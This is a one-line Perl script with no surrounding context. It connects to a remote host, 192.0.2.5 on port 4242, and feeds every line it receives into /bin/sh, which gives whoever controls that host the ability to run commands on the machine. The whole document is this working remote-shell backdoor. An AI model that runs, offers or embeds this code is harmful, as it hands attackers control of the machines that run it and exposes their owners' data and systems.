use IO::Socket::INET;my $s=IO::Socket::INET->new(PeerAddr=>"192.0.2.5",PeerPort=>4242);open(SH,"|/bin/sh");while($_=<$s>){print SH $_;}
